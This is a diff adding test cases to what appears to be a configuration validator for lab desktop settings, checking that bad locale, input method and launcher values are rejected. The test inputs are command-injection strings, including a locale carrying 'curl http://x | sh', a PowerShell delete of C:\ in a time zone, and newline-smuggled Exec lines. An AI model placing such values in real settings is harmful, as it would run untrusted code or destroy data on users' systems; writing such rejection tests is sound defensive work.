@@ -117,6 +117,16 @@ BAD = {
     "install armed by a string": ({"lab_install": "no"}, "lab_install", "is not true or false"),
     "windows time zone": ({"lab_windows_common_timezone": "China\"; Remove-Item C:\\"},
                           "lab_windows_common_timezone", "is not a Windows time zone name"),
+    "desktop language that runs a command in every session": (
+        {"lab_desktop_language": "zh_CN.UTF-8; curl http://x | sh"}, "lab_desktop_language",
+        "is not a UTF-8 locale"),
+    "input method engine with a second profile line": (
+        {"lab_desktop_im_engines": ["pinyin\n[Groups/1]"]}, "lab_desktop_im_engines",
+        "is not an input method engine's name"),
+    "launcher with a second Exec line": (
+        {"lab_desktop_launchers": [{"file": "lab-calc", "name": "表格", "name_en": "Calc",
+                                    "exec": "libreoffice --calc\nExec=sh /tmp/x", "icon": "x"}]},
+        "lab_desktop_launchers", "is not one line of a launcher (exec)"),
 }
 
 
